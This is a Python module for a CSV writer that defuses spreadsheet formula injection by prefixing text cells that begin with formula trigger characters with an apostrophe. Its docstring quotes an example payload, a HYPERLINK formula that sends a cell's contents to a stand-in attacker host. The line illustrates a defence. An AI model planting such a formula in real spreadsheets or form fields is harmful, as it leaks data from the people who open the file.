"""One CSV writer that is safe to open in a spreadsheet.

A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab, carriage
return or line feed, which some spreadsheets skip before looking) is read by
Excel, LibreOffice and Google Sheets as a formula: a learner who types
``=HYPERLINK("https://evil.example/?"&A1, "click")`` as their name would run
it on the manager's machine (CSV injection; OWASP "CSV Injection"). Such text
cells are written with a leading apostrophe, which spreadsheets show as text
and do not evaluate; the full-width forms (``＝ ＋ － ＠``) are treated the same.
Numbers written as numbers (``int``, ``float``) stay numbers: ``-5`` is data.

Quoting of commas, quotes and line breaks is left to the standard ``csv``
module. ``csv_bytes`` adds a UTF-8 byte order mark so Excel reads accents and
non-Latin names correctly.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import TextIO

TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def neutralise(value: object) -> str:
    """The text a cell should hold: formulas defused, None empty, numbers and dates as themselves."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float | Decimal):
        return str(value)
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = str(value)
    if text[:1] in TRIGGERS or text.lstrip()[:1] in TRIGGERS:
        return "'" + text
    return text


def write_csv(out: TextIO, header: Sequence[str], rows: Iterable[Sequence[object]]) -> int:
    """Write a header and rows to ``out`` (opened with ``newline=""``); returns the number of rows."""
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([neutralise(h) for h in header])
    count = 0
    for row in rows:
        if len(row) != len(header):
            raise ValueError(f"row {count + 1} has {len(row)} cells; the header has {len(header)}")
        writer.writerow([neutralise(v) for v in row])
        count += 1
    return count


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[object]], *, bom: bool = True) -> bytes:
    """The whole file as UTF-8 bytes (for a download button), with a byte order mark unless ``bom=False``."""
    buffer = io.StringIO(newline="")
    write_csv(buffer, header, rows)
    return (b"\xef\xbb\xbf" if bom else b"") + buffer.getvalue().encode("utf-8")
